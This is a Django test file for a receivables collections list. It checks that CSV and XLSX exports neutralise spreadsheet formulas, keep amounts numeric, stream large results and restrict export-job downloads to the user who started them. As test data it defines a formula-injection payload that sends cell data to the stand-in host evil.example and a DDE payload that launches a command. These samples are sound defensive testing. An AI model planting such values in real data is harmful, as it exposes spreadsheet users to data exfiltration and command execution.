"""Exports of the collections list: text never runs as a formula (CSV and XLSX), amounts stay
numbers, CSV streams, and a large XLSX is a job whose file only its starter downloads."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from collections_app.services import aging_snapshot_create
from core.exports import csv_lines, spreadsheet_text, xlsx_write
from core.jobs import job_run
from core.models import Job
from entities.models import EntityGrant
from tests.conftest import make_clerk
from tests.factories.entities import PaymentTermsFactory
from tests.factories.receivables import post_invoice, post_payment

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Open")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture
def book(fabrikam):
    """FAB/4000, named like a formula, owes 100.00; FABE/4000 (no name of its own: its party's,
    also a formula) has an unapplied payment of 50.00, a negative balance. Aged today."""
    today = timezone.localdate()
    fab, fabe = fabrikam["customers"]["FAB"], fabrikam["customers"]["FABE"]
    fab.name = HYPERLINK
    fab.save()
    fabe.name = ""
    fabe.save()
    party = fabrikam["party"]
    party.name = COMMAND
    party.save()
    terms = PaymentTermsFactory(code="N0", net_days=0)
    post_invoice(fab, amounts=("100.00",), on=today - timedelta(days=40), terms=terms)
    post_payment(fabe, amount="50.00", on=today - timedelta(days=5))
    for code in ("FAB", "FABE"):
        aging_snapshot_create(legal_entity=fabrikam[code], as_of=today)
    return fabrikam


def _browser(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Northwind = good", "Northwind = good"),
        ("", ""),
    ],
)
def test_spreadsheet_text_prefixes_what_would_start_a_formula(value, written):
    assert spreadsheet_text(value) == written


def test_csv_lines_escapes_text_only():
    (line,) = csv_lines([["-Minus", Decimal("-12.50"), -3, None, "plain"]])
    assert line == "'-Minus,-12.50,-3,,plain\r\n"


def test_xlsx_write_text_is_a_string_cell_numbers_stay_numbers():
    buffer = io.BytesIO()
    xlsx_write(buffer, sheet_name="S", lines=[["\x01=1+1", HYPERLINK, Decimal("-5.25"), 7]])
    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["S"]
    control, link, amount, count = (sheet.cell(1, c) for c in range(1, 5))
    # The control character an XLSX cannot hold is dropped before escaping.
    assert (control.data_type, control.value) == ("s", "'=1+1")
    assert (link.data_type, link.value) == ("s", "'" + HYPERLINK)
    assert (amount.data_type, amount.value) == ("n", -5.25)
    assert (count.data_type, count.value) == ("n", 7)


def test_collections_export_csv_streams_formula_names_as_text(book, admin_user):
    response = _browser(admin_user).get("/collections/export.csv?ordering=customer")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r[0], r[2], r[5]) for r in rows[1:]] == [
        ("FAB", "'" + HYPERLINK, "100.00"),
        ("FABE", "'" + COMMAND, "-50.00"),
    ]


def test_collections_export_xlsx_small_is_inline_with_string_cells(book, admin_user):
    response = _browser(admin_user).get("/collections/export.xlsx?ordering=customer")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Collections"]
    assert sheet.max_row == 3
    name, balance = sheet.cell(2, 3), sheet.cell(2, 6)
    assert name.data_type == "s" and name.value.startswith("'=")
    assert name.value == "'" + HYPERLINK
    assert (balance.data_type, balance.value) == ("n", 100)
    assert sheet.cell(3, 3).value == "'" + COMMAND
    assert (sheet.cell(3, 6).data_type, sheet.cell(3, 6).value) == ("n", -50)
    assert not Job.objects.exists()


def test_collections_export_xlsx_large_runs_as_a_job_for_its_starter_only(
    book, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.EXPORT_XLSX_MAX_ROWS_INLINE = 1
    settings.EXPORTS_DIR = tmp_path / "exports"
    reader = make_clerk("reader", book["FAB"], book["FABE"])
    browser = _browser(reader)
    # The link starts nothing: it asks, and the page's button (a POST) starts the job.
    asked = browser.get("/collections/export.xlsx?ordering=customer")
    assert asked.status_code == 200 and not Job.objects.exists()
    assert "The list has 2 rows" in asked.content.decode()
    assert 'action="/collections/export.xlsx?ordering=customer"' in asked.content.decode()
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = browser.post("/collections/export.xlsx?ordering=customer")
    assert len(callbacks) == 1  # the worker is asked to run it after commit
    job = Job.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/jobs/{job.pk}/"
    assert (job.kind, job.state, job.started_by) == ("export_xlsx", "queued", reader)
    assert sorted(e.code for e in job.legal_entities.all()) == ["FAB", "FABE"]
    # Not done yet: the download link leads back to the progress page.
    assert browser.get(f"/collections/exports/{job.pk}/")["Location"] == f"/jobs/{job.pk}/"

    job = job_run(job_id=job.pk)
    assert (job.state, job.done, job.total) == ("done", 2, 2)
    assert job.result == {"rows": 2, "file": f"collections-{job.pk}.xlsx"}
    page = browser.get(f"/jobs/{job.pk}/").content.decode()
    assert f'href="/collections/exports/{job.pk}/"' in page

    download = browser.get(f"/collections/exports/{job.pk}/")
    assert download.status_code == 200
    assert download["Content-Disposition"] == (f'attachment; filename="collections-{job.pk}.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content)))["Collections"]
    assert [sheet.cell(r, 3).value for r in (2, 3)] == ["'" + HYPERLINK, "'" + COMMAND]
    assert sheet.cell(2, 3).data_type == "s"
    assert list((tmp_path / "exports").iterdir()) == [tmp_path / "exports" / job.result["file"]]

    # Another user granted the same entities, even a superuser, does not get the file.
    other = make_clerk("other", book["FAB"], book["FABE"])
    assert _browser(other).get(f"/collections/exports/{job.pk}/").status_code == 404
    boss = make_clerk("boss")
    boss.is_superuser = True
    boss.save()
    assert _browser(boss).get(f"/collections/exports/{job.pk}/").status_code == 404
    # Nor does the starter once a grant of the job's entities is taken away.
    EntityGrant.objects.filter(user=reader, legal_entity=book["FABE"]).delete()
    assert _browser(reader).get(f"/collections/exports/{job.pk}/").status_code == 404


def test_collections_export_job_run_fails_without_the_grants(
    book, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.EXPORT_XLSX_MAX_ROWS_INLINE = 1
    settings.EXPORTS_DIR = tmp_path
    reader = make_clerk("reader", book["FAB"], book["FABE"])
    with django_capture_on_commit_callbacks(execute=False):
        _browser(reader).post("/collections/export.xlsx")
    job = Job.objects.get()
    EntityGrant.objects.filter(user=reader, legal_entity=book["FAB"]).delete()
    job = job_run(job_id=job.pk)
    assert job.state == "failed"
    assert job.errors == ["You may not act in legal entity FAB."]
    assert not list(tmp_path.iterdir())


def test_collections_customers_export_api_csv_and_xlsx_job(
    book, settings, tmp_path, api_client, django_capture_on_commit_callbacks
):
    reader = make_clerk("reader", book["FAB"], book["FABE"])
    api_client.force_authenticate(reader)
    response = api_client.get("/api/v1/collections-customers/export-csv/?ordering=customer")
    assert response.status_code == 200 and response.streaming
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r[2] for r in rows[1:]] == ["'" + HYPERLINK, "'" + COMMAND]

    inline = api_client.get("/api/v1/collections-customers/export-xlsx/?ordering=customer")
    assert inline.status_code == 200
    assert load_workbook(io.BytesIO(inline.content))["Collections"].cell(2, 3).data_type == "s"

    settings.EXPORT_XLSX_MAX_ROWS_INLINE = 0
    settings.EXPORTS_DIR = tmp_path
    refused = api_client.get("/api/v1/collections-customers/export-xlsx/?legal_entity=FAB")
    assert refused.status_code == 409 and refused.json()["code"] == "export_needs_job"
    assert refused.json()["details"] == {"rows": 1, "limit": 0}
    assert not Job.objects.exists()
    with django_capture_on_commit_callbacks(execute=False):
        started = api_client.post("/api/v1/collections-customers/export-xlsx/?legal_entity=FAB")
    assert started.status_code == 202, started.content
    body = started.json()
    assert (body["kind"], body["state"], body["legal_entities"]) == (
        "export_xlsx",
        "queued",
        ["FAB"],
    )
    url = f"/api/v1/collections-customers/exports/{body['id']}/"
    early = api_client.get(url)
    assert early.status_code == 409 and early.json()["code"] == "export_not_ready"

    job_run(job_id=body["id"])
    download = api_client.get(url)
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content)))["Collections"]
    # Only FAB's row: the filter travels with the job.
    assert sheet.max_row == 2 and sheet.cell(2, 1).value == "FAB"

    api_client.force_authenticate(make_clerk("other", book["FAB"], book["FABE"]))
    assert api_client.get(url).status_code == 404


def test_collections_export_job_run_taken_over_writes_no_file(
    book, settings, tmp_path, django_capture_on_commit_callbacks
):
    """An attempt whose job was taken over meanwhile (its attempt number is not the job's any
    more) renames nothing into place and leaves no part file."""
    from collections_app.services.exports import collections_export_job_run, export_file_path
    from core.jobs import JobProgress, JobSuperseded

    settings.EXPORT_XLSX_MAX_ROWS_INLINE = 0
    settings.EXPORTS_DIR = tmp_path
    reader = make_clerk("reader", book["FAB"], book["FABE"])
    with django_capture_on_commit_callbacks(execute=False):
        _browser(reader).post("/collections/export.xlsx")
    job = Job.objects.get()
    Job.objects.filter(pk=job.pk).update(state="running", attempts=1)
    job.refresh_from_db()
    stale = JobProgress(job)
    Job.objects.filter(pk=job.pk).update(attempts=2)  # another attempt took it over
    with pytest.raises(JobSuperseded):
        collections_export_job_run(job, stale)
    assert not export_file_path(job).exists()
    assert list(tmp_path.iterdir()) == []
